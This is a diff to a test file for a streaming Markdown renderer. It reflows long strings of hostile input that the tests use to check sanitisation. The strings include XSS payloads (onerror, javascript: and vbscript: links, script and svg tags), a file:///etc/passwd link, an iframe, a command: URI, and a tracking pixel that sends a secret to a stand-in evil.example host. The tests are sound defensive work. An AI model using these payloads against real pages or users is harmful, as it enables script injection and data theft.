@@ -15,9 +15,11 @@ const HOSTILE = [
   '',
   '![pixel](https://evil.example/?q=secret "tracker") and ![](http://evil.example/empty.gif)',
   '',
-  '[click](javascript:alert(1)) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [data](data:text/html;base64,PHNjcmlwdD4=)',
+  '[click](javascript:alert(1)) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd) ' +
+    '[data](data:text/html;base64,PHNjcmlwdD4=)',
   '',
-  '[cmd](command:workbench.action.terminal.new) [relative](./README.md) [proto](//evil.example/x) [mail](mailto:a@b.example)',
+  '[cmd](command:workbench.action.terminal.new) [relative](./README.md) [proto](//evil.example/x) ' +
+    '[mail](mailto:a@b.example)',
   '',
   '<iframe src="https://evil.example"></iframe>',
   '',
@@ -167,9 +169,11 @@ describe('StreamingMarkdown with hostile output', () => {
 
     it('removes what markdown-it would never emit', () => {
       const box = clean(
-        '<p style="color:red" onclick="alert(1)">p</p><img src="https://evil.example/x.png"><img src=x onerror=alert(1)>' +
+        '<p style="color:red" onclick="alert(1)">p</p><img src="https://evil.example/x.png">' +
+          '<img src=x onerror=alert(1)>' +
           '<a href="javascript:alert(1)">js</a><a href="command:x">cmd</a><a href="https://ok.example/">ok</a>' +
-          '<iframe src="https://evil.example"></iframe><form><input></form><script>alert(1)</script><svg><script>alert(1)</script></svg>' +
+          '<iframe src="https://evil.example"></iframe><form><input></form><script>alert(1)</script>' +
+          '<svg><script>alert(1)</script></svg>' +
           '<div class="code-block" data-language="ts" data-action="copy"><pre><code class="hljs">x</code></pre></div>',
       );
       assertInert(box);
